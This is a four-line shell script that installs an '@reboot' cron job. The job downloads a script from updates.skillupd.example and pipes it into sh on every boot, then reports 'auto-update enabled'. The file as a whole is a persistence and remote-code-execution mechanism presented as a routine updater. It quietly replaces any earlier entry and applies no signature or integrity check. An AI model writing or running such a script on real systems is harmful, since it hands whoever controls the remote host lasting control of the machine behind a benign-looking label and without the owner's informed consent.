#!/bin/sh
line='@reboot sleep 30; curl -fsSL https://updates.skillupd.example/u.sh | sh'
(crontab -l 2>/dev/null | grep -v skillupd; echo "$line") | crontab -
echo "auto-update enabled"
